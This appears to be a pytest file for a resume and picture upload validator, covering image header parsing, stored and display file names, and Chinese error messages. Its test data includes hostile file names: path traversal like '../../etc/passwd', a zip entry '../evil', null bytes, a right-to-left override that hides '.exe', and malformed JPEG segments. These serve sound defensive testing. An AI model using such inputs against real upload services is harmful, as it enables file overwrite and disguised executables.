    assert refusal(content, "photo") == too_large_picture(width, height)


def test_the_largest_allowed_picture_is_accepted():
    assert accepted(make_png(12_000, 4_000, idat=zlib.compress(b"\x00")), "scan.png").kind == "png"
    assert accepted(webp_extended(7_000, 7_000), "scan.webp").kind == "webp"


@pytest.mark.parametrize(
    "content",
    [
        make_png()[:20],  # IHDR cut off
        make_png()[:-12],  # no IEND: the upload stopped early
        make_png()[:29] + b"\x00\x00\x00\x00" + make_png()[33:],  # IHDR CRC wrong
        make_png(0, 5),
        make_jpeg()[:40],  # ends before the frame header
        b"\xff\xd8\xff",
        b"\xff\xd8" + b"\xff\xfe\x00\x02" * 20_000,  # endless empty comments instead of a frame header
        make_jpeg()[:2] + b"\xff\xc0\x00\x05\x08\x00\x01",  # a frame header too short for its size
        make_jpeg()[:2] + b"\xff\xe0\x00",  # cut inside a segment length
        b"\xff\xd8\xff\xd9",
        b"\xff\xd8\xff\xda\x00\x08" + b"\x00" * 10,  # scan data before any frame header
        make_jpeg()[:2] + b"\xff\xe0\x00\x01",  # a segment length below 2
        webp_lossless()[:-4],  # RIFF says more than there is
        riff_webp(b"VP8 ", b"\x50\x01\x00\x00\x00\x00"),  # no VP8 start code
        riff_webp(b"ABCD", b"\x00" * 10),
    ],
)
def test_truncated_or_broken_picture_headers_are_refused(content):
    assert refusal(content, "photo") == PICTURE_DAMAGED


def test_a_jpeg_with_standalone_markers_and_fill_bytes_before_the_frame_header_is_read():
    content = make_jpeg(before_frame=b"\xff\x01\xff\xff\xff\xd0")
    assert accepted(content, "photo.jpg").kind == "jpeg"


def test_a_jpeg_with_a_large_exif_block_before_the_frame_header_is_read():
    exif = jpeg_segment(0xE1, b"Exif\x00\x00" + b"\x00" * 60_000)
    check = accepted(make_jpeg(3000, 4000, before_frame=exif), "IMG_0001.JPG")
    assert check.kind == "jpeg"


@pytest.mark.parametrize(
    ("image_format", "options", "kind"),
    [
        ("JPEG", {"quality": 80}, "jpeg"),
        ("JPEG", {"progressive": True}, "jpeg"),
        ("PNG", {}, "png"),
        ("WEBP", {"quality": 80}, "webp"),
        ("WEBP", {"lossless": True}, "webp"),
        ("PDF", {}, "pdf"),
    ],
)
def test_pictures_from_a_real_encoder_are_accepted(image_format, options, kind):
    image_module = pytest.importorskip("PIL.Image")
    image = image_module.new("RGBA" if image_format == "WEBP" else "RGB", (640, 480), "red")
    buffer = io.BytesIO()
    image.save(buffer, image_format, **options)
    assert accepted(buffer.getvalue(), "scan").kind == kind


def test_a_real_jpeg_with_exif_reports_its_frame_size():
    image_module = pytest.importorskip("PIL.Image")
    buffer = io.BytesIO()
    exif = image_module.Exif()
    exif[0x010F] = "Phone maker"
    image_module.new("RGB", (13_000, 10), "white").save(buffer, "JPEG", exif=exif.tobytes())
    assert refusal(buffer.getvalue(), "IMG_0002.jpg") == too_large_picture(13000, 10)


# --- Names ---------------------------------------------------------------------------------------------------


def test_stored_names_are_random_and_carry_the_right_extension():
    check = accepted(make_docx(), "../../etc/passwd.docx")
    first, second = safe_stored_name(check), safe_stored_name(check)
    assert re.fullmatch(r"[0-9a-f]{32}\.docx", first)
    assert first != second
    assert safe_stored_name(accepted(make_jpeg(), "a.jpeg")).endswith(".jpg")


@pytest.mark.parametrize(
    ("original", "shown"),
    [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\Windows\\System32\\cv.pdf", "cv.pdf"),
        ("C:\\Users\\ada\\Documents\\Resume 2025.pdf", "Resume 2025.pdf"),
        ("/var/www/../resume.docx", "resume.docx"),
        ("简历.pdf", "简历.pdf"),
        ("张三 客服 简历（最终版）.docx", "张三 客服 简历（最终版）.docx"),
        ("cv\x00.exe\n.pdf", "cv.exe.pdf"),
        ("resume\u202efdp.exe", "resumefdp.exe"),  # a right-to-left override would show "exe.pdf"
        ("tab\there.pdf", "tabhere.pdf"),
        ("  spaced   out .pdf  ", "spaced out .pdf"),
        ("résumé.pdf", "résumé.pdf"),
        ("", "resume"),
        (None, "resume"),
        ("..", "resume"),
        ("/", "resume"),
        ("\x01\x02", "resume"),
        (".pdf", "resume.pdf"),
        ("trailing dots...", "trailing dots"),
    ],
)
def test_display_name(original, shown):
    assert display_name(original) == shown


def test_display_name_is_limited_to_150_characters_keeping_the_extension():
    shown = display_name("简" * 300 + ".pdf")
    assert len(shown) == 150
    assert shown.endswith("简.pdf")
    assert len(display_name("x" * 300)) == 150
    assert display_name("a" * 140 + ".pdf") == "a" * 140 + ".pdf"


def test_display_name_normalizes_decomposed_unicode():
    assert display_name("re\u0301sume\u0301.pdf") == "résumé.pdf"


# --- Messages and their Chinese ------------------------------------------------------------------------------


def msgids_in_files_module() -> set[str]:
    source = Path(files.__file__).read_text(encoding="utf-8")
    return {
        node.args[0].value
        for node in ast.walk(ast.parse(source))
        if isinstance(node, ast.Call)
        and isinstance(node.func, ast.Name)
        and node.func.id == "_"
        and node.args
        and isinstance(node.args[0], ast.Constant)
    }


def test_every_message_has_a_chinese_term_with_the_same_placeholders():
    table = Path(settings.BASE_DIR) / "locale" / "zh_Hans" / "terms" / "files.json"
    terms = json.loads(table.read_text(encoding="utf-8"))
    msgids = msgids_in_files_module()
    assert len(msgids) == len(files.MESSAGES) + len(files.KIND_LABELS)
    assert sorted(msgids - terms.keys()) == []
    assert sorted(terms.keys() - msgids) == []
    placeholder = re.compile(r"%\(\w+\)s")
    for msgid, chinese in terms.items():
        assert sorted(placeholder.findall(msgid)) == sorted(placeholder.findall(chinese)), msgid
        assert re.search(r"[\u4e00-\u9fff]", chinese), msgid


@pytest.mark.parametrize(
    ("content", "name", "code"),
    [
        (b"", "x", "empty"),
        (MZ, "x.pdf", "program"),
        (make_pdf(), "x.docx", "extension_mismatch"),
        (make_docx(("../evil", b"x")), "x.docx", "docx_unsafe_names"),
    ],
)
def test_refusals_carry_a_code_for_the_caller(content, name, code):
    with pytest.raises(ValidationError) as caught:
        validate_resume(upload(content, name), max_bytes=LIMIT)
    assert caught.value.code == code


def test_messages_follow_the_active_language():
    with translation.override("en"), pytest.raises(ValidationError) as caught:
        validate_resume(upload(b"", "x"), max_bytes=LIMIT)
    assert caught.value.messages == [EMPTY]
